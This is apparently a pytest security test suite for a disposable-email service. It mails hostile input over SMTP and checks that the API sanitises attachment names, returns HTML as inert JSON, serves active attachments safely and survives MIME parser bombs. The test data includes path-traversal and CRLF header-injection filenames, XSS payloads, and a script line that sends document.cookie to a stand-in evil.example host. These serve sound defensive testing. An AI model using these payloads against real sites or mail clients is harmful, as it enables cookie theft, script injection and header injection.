"""Hostile mail over real SMTP, read back through the API.

Attachment names that try path traversal, absolute paths, control characters and header
injection through Content-Disposition; HTML that would run script if anything rendered it;
active attachments (HTML, SVG, XML, JavaScript) that must download as inert files; and
messages built to exhaust the parser (deep MIME nesting, half a megabyte of headers).
The API's answer to all of it: names made safe, content handed back as JSON data, downloads
that a browser saves instead of running, and bounded time and memory.
"""

from __future__ import annotations

import base64
import json
import smtplib
import time
import unicodedata
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from tests.support import Running

MAX_NAME = 200  # characters: the contract's "safe file name" is also a short one
DANGEROUS_HEADERS = ("x-injected", "set-cookie", "refresh", "location")


def mime(
    parts: list[tuple[str, bytes]], subject: str = "Hostile", boundary: str = "b0und"
) -> bytes:
    """A multipart/mixed message from (part headers, part body) pairs, bytes exactly as given."""
    head = (
        "From: Mallory <mallory@evil.example>\r\n"
        "To: victim@ephemail.test\r\n"
        f"Subject: {subject}\r\n"
        "MIME-Version: 1.0\r\n"
        f'Content-Type: multipart/mixed; boundary="{boundary}"\r\n\r\n'
        f"--{boundary}\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n"
    ).encode()
    body = b"".join(
        f"--{boundary}\r\n{headers}\r\n\r\n".encode() + data + b"\r\n" for headers, data in parts
    )
    return head + body + f"--{boundary}--\r\n".encode()


def attachment(
    disposition: str, data: bytes, content_type: str = "text/plain"
) -> tuple[str, bytes]:
    b64 = base64.encodebytes(data).replace(b"\n", b"\r\n").rstrip()
    headers = (
        f"Content-Type: {content_type}\r\n"
        f"Content-Disposition: {disposition}\r\n"
        "Content-Transfer-Encoding: base64"
    )
    return headers, b64


def encoded_word(text: str) -> str:
    return "=?utf-8?b?" + base64.b64encode(text.encode()).decode() + "?="


CRLF_WORD = encoded_word("evil.txt\r\nSet-Cookie: owned=1")
# (Content-Disposition as sent, a label for failures).
HOSTILE_NAMES: list[tuple[str, str]] = [
    ('attachment; filename="../../etc/passwd"', "traversal"),
    ('attachment; filename="..\\\\..\\\\windows\\\\win.ini"', "backslash traversal"),
    ('attachment; filename="/etc/shadow"', "absolute path"),
    ('attachment; filename="C:\\\\Windows\\\\evil.exe"', "drive path"),
    ("attachment; filename*=UTF-8''..%2F..%2F.ssh%2Fauthorized_keys", "encoded traversal"),
    ("attachment; filename*=UTF-8''bell%07tab%09nul%00esc%1B.txt", "control characters"),
    ("attachment; filename*=UTF-8''evil.txt%0D%0AX-Injected%3A%20yes", "CRLF injection 2231"),
    (f'attachment; filename="{CRLF_WORD}"', "CRLF injection 2047"),
    ("attachment; filename*=UTF-8''a%0Dlocation%3A%20http%3A%2F%2Fevil", "bare CR injection"),
    ("attachment; filename*=UTF-8''line%E2%80%A8sep%C2%85nel.txt", "unicode line breaks"),
    ("attachment; filename*=UTF-8''invoice%E2%80%AEfdp.exe", "right-to-left override"),
    ('attachment; filename="quote\\".txt"', "quote"),
    ('attachment; filename="a; filename=evil.exe"', "parameter injection"),
    ('attachment; filename=" ... "', "dots and spaces only"),
    ('attachment; filename=".hidden"', "hidden file"),
    (f'attachment; filename="{"A" * 1000}.txt"', "overlong ascii"),
    (f"attachment; filename*=UTF-8''{quote('α' * 600)}.pdf", "overlong non-ascii"),
    ('attachment; filename="same.txt"', "duplicate 1"),
    ('attachment; filename="same.txt"', "duplicate 2"),
    ('attachment; filename="SAME.TXT"', "duplicate by case"),
    ('attachment; filename="100%25 legit.txt?x=1#frag"', "url characters"),
]


def assert_safe_download_headers(response: httpx.Response, name: str) -> None:
    disposition = response.headers["content-disposition"]
    assert "\r" not in disposition and "\n" not in disposition, disposition
    assert disposition.startswith("attachment;"), disposition
    for header in DANGEROUS_HEADERS:
        assert header not in response.headers, (header, response.headers)
    assert response.headers["x-content-type-options"] == "nosniff"
    # RFC 6266: the real name travels percent-encoded when the ASCII fallback differs.
    fallback_ok = f'filename="{name}"' in disposition
    assert fallback_ok or f"filename*=UTF-8''{quote(name, safe='')}" in disposition, disposition


async def read_single(client: httpx.AsyncClient, box: str) -> dict[str, Any]:
    listing = await client.get("/api/messages", params={"email": box})
    assert listing.status_code == 200, listing.text
    (message,) = listing.json()["messages"]
    one = await client.get(f"/api/messages/{message['id']}")
    assert one.status_code == 200
    data: dict[str, Any] = one.json()["data"]
    return data


async def new_box(client: httpx.AsyncClient) -> dict[str, Any]:
    created = await client.post("/api/emails")
    assert created.status_code == 200, created.text
    data: dict[str, Any] = created.json()["data"]
    return data


async def test_hostile_attachment_names_are_safe_and_download_cleanly(running: Running) -> None:
    parts = [attachment(d, f"file {i}".encode()) for i, (d, _) in enumerate(HOSTILE_NAMES)]
    async with running.client(running.admin_key) as client, running.client() as anonymous:
        created = await new_box(client)
        box, token = created["email"], created["email_token"]
        assert await running.send(mime(parts), [box]) == {}
        files = (await read_single(client, box))["attachments"]
        assert len(files) == len(HOSTILE_NAMES), [f["name"] for f in files]
        seen: set[str] = set()
        for index, ((_, label), file) in enumerate(zip(HOSTILE_NAMES, files, strict=True)):
            name = file["name"]
            assert name and not name.startswith("."), (label, name)
            assert "/" not in name and "\\" not in name, (label, name)
            bad = [c for c in name if unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp")]
            assert not bad, (label, name)
            assert len(name) <= MAX_NAME, (label, len(name))
            assert name.casefold() not in seen, (label, name)  # unique within the message
            seen.add(name.casefold())
            assert file["url"].endswith("/attachments/" + quote(name, safe="")), file["url"]
            expected = f"file {index}".encode()
            assert file["size"] == len(expected), label
            token_url = file["url"].replace("/api/messages/", f"/api/token/{token}/messages/")
            for reader, url in ((client, file["url"]), (anonymous, token_url)):
                download = await reader.get(url)
                assert download.status_code == 200, (label, url, download.text)
                assert download.content == expected, label
                assert_safe_download_headers(download, name)
        names = [f["name"] for f in files]
        assert names[-4:-1] == ["same.txt", "same (2).txt", "SAME (3).TXT"], names


async def test_overlong_non_ascii_name_fits_a_file_system(running: Running) -> None:
    parts = [attachment(f"attachment; filename*=UTF-8''{quote('α' * 600)}.pdf", b"%PDF")]
    async with running.client(running.admin_key) as client:
        box = (await new_box(client))["email"]
        await running.send(mime(parts), [box])
        (file,) = (await read_single(client, box))["attachments"]
    assert file["name"].endswith(".pdf")
    assert len(file["name"].encode()) <= 255, len(file["name"].encode())


HOSTILE_HTML = """<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>body { background: url("javascript:alert(1)"); width: expression(alert(2)); }
@import url(https://evil.example/x.css);</style>
<script>fetch("https://evil.example/?c=" + document.cookie)</script>
</head><body onload="alert(3)">
<img src="https://tracker.example/pixel.gif?u=victim" onerror="alert(4)" width="1" height="1">
<a href="javascript:alert(5)">click</a> <a href="data:text/html,<script>alert(6)</script>">x</a>
<svg xmlns="http://www.w3.org/2000/svg" onload="alert(7)"><script>alert(8)</script></svg>
<iframe srcdoc="<script>alert(9)</script>"></iframe>
<form action="https://evil.example/steal"><input name="password"></form>
"quotes" \\backslash\\ \u2028 line separator </script><!-- end -->
</body></html>"""


async def test_hostile_html_body_comes_back_as_json_data(running: Running) -> None:
    subject = '<script>alert("subject")</script>'
    raw = (
        "From: =?utf-8?q?=3Cimg_src=3Dx_onerror=3Dalert=281=29=3E?= <mallory@evil.example>\r\n"
        f"Subject: {subject}\r\n"
        "MIME-Version: 1.0\r\n"
        "Content-Type: text/html; charset=utf-8\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n"
    ).encode() + base64.encodebytes(HOSTILE_HTML.encode())
    async with running.client(running.admin_key) as client:
        created = await new_box(client)
        box, token = created["email"], created["email_token"]
        assert await running.send(raw, [box]) == {}
        listing = await client.get("/api/messages", params={"email": box})
        message_id = listing.json()["messages"][0]["id"]
        answers = [
            listing,
            await client.get(f"/api/messages/{message_id}"),
            await client.get(f"/api/token/{token}/messages"),
            await client.get(f"/api/token/{token}/messages/{message_id}"),
        ]
    for response in answers:
        assert response.status_code == 200
        assert response.headers["content-type"] == "application/json"
        body = json.loads(response.content)  # one JSON document, nothing outside it
        message = body["data"] if "data" in body else body["messages"][0]
        assert message["html"] is True
        assert message["content"].strip() == HOSTILE_HTML.strip()  # data, exactly as sent
        assert message["subject"] == subject
        assert message["from"] == "<img src=x onerror=alert(1)>"
        assert "<script>" not in response.headers.get("content-disposition", "")


ACTIVE_FILES = [
    ("page.html", "text/html", b"<script>alert(document.domain)</script>"),
    ("PAGE.HTM", "TEXT/HTML; charset=utf-8", b"<body onload=alert(1)>"),
    ("image.svg", "image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script>'),
    ("page.xhtml", "application/xhtml+xml", b'<html xmlns="http://www.w3.org/1999/xhtml"/>'),
    ("data.xml", "text/xml", b'<?xml-stylesheet href="evil.xsl"?><x/>'),
    ("script.js", "application/javascript", b"alert(1)"),
    ("page.mht", "multipart/related", b"MIME-Version: 1.0\r\n\r\n<script>1</script>"),
    ("looks-like.png", "image/png", b"<html><script>alert(1)</script></html>"),
    ("no-type.html", "application/octet-stream", b"<script>alert(1)</script>"),
    ("bogus.html", "text/html\u00a0; x=1", b"<script>alert(1)</script>"),
]


async def test_active_attachments_download_as_inert_files(running: Running) -> None:
    parts = [
        attachment(f'attachment; filename="{name}"', data, content_type)
        for name, content_type, data in ACTIVE_FILES
    ]
    inline = attachment('inline; filename="inline.html"', b"<script>alert(2)</script>", "text/html")
    async with running.client(running.admin_key) as client, running.client() as anonymous:
        created = await new_box(client)
        box, token = created["email"], created["email_token"]
        assert await running.send(mime([*parts, inline]), [box]) == {}
        files = (await read_single(client, box))["attachments"]
        assert len(files) == len(ACTIVE_FILES) + 1, [f["name"] for f in files]
        for file in files:
            token_url = file["url"].replace("/api/messages/", f"/api/token/{token}/messages/")
            for reader, url in ((client, file["url"]), (anonymous, token_url)):
                response = await reader.get(url)
                assert response.status_code == 200, (url, response.text)
                assert_safe_download_headers(response, file["name"])
                policy = response.headers["content-security-policy"]
                assert "default-src 'none'" in policy and "sandbox" in policy, policy
                media = response.headers["content-type"].split(";")[0].strip()
                assert media == media.lower() and "/" in media and " " not in media, media


def nested_message(depth: int) -> bytes:
    """`depth` multipart levels, each with its own boundary, a text part at the bottom."""
    lines = [
        "From: deep@example.org",
        "Subject: Deeply nested",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="b0"',
        "",
    ]
    for level in range(1, depth):
        lines += [f"--b{level - 1}", f'Content-Type: multipart/mixed; boundary="b{level}"', ""]
    lines += [f"--b{depth - 1}", "Content-Type: text/plain", "", "the bottom", ""]
    for level in reversed(range(depth)):
        lines.append(f"--b{level}--")
    return ("\r\n".join(lines) + "\r\n").encode()


def huge_headers_message(total: int = 500 * 1024) -> bytes:
    """About `total` bytes of headers: thousands of short ones plus one long folded one."""
    lines = ["From: Headers <headers@example.org>", "Subject: Huge headers", "MIME-Version: 1.0"]
    folded = "X-Folded: start" + "".join(f"\r\n word{i:06d}" for i in range(10_000))
    lines.append(folded)
    size = sum(len(line) + 2 for line in lines)
    i = 0
    while size < total:
        line = f"X-Filler-{i:06d}: {'v' * 40}"
        lines.append(line)
        size += len(line) + 2
        i += 1
    lines += ["Content-Type: text/plain", "", "body after the headers", ""]
    return "\r\n".join(lines).encode()


def rss_mib() -> float:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    return 0.0  # pragma: no cover - not Linux


@pytest.mark.parametrize(
    ("label", "raw"),
    [
        pytest.param("200 levels of nesting", nested_message(200), id="nested-200"),
        pytest.param("2000 levels of nesting", nested_message(2000), id="nested-2000"),
        pytest.param("500 KB of headers", huge_headers_message(), id="headers-500KB"),
    ],
)
async def test_parser_bombs_are_handled_in_bounded_time_and_memory(
    running: Running, label: str, raw: bytes
) -> None:
    assert len(raw) < running.settings.max_message_size
    before = rss_mib()
    async with running.client(running.admin_key) as client:
        box = (await new_box(client))["email"]
        started = time.monotonic()
        try:
            accepted = await running.send(raw, [box]) == {}
        except smtplib.SMTPResponseException as exc:  # a clean refusal is fine, a hang is not
            assert 500 <= exc.smtp_code < 600 or exc.smtp_code in (421, 451, 452), (label, exc)
            accepted = False
        took = time.monotonic() - started
        assert took < 20, (label, took)
        listing = await client.get("/api/messages", params={"email": box})
        assert listing.status_code == 200
        messages = listing.json()["messages"]
        assert len(messages) == (1 if accepted else 0), label
        if accepted:
            started = time.monotonic()
            one = await client.get(f"/api/messages/{messages[0]['id']}")
            assert one.status_code == 200 and time.monotonic() - started < 5
            assert one.json()["data"]["subject"] in ("Deeply nested", "Huge headers")
        # The service still answers, and serves a normal message normally.
        assert (await client.get("/api/domains")).status_code == 200
        assert await running.send(b"Subject: after\r\n\r\nstill here\r\n", [box]) == {}
        after = (await client.get("/api/messages", params={"email": box})).json()["messages"]
        assert after[0]["subject"] == "after"
    grown = rss_mib() - before
    assert grown < 200, (label, grown)
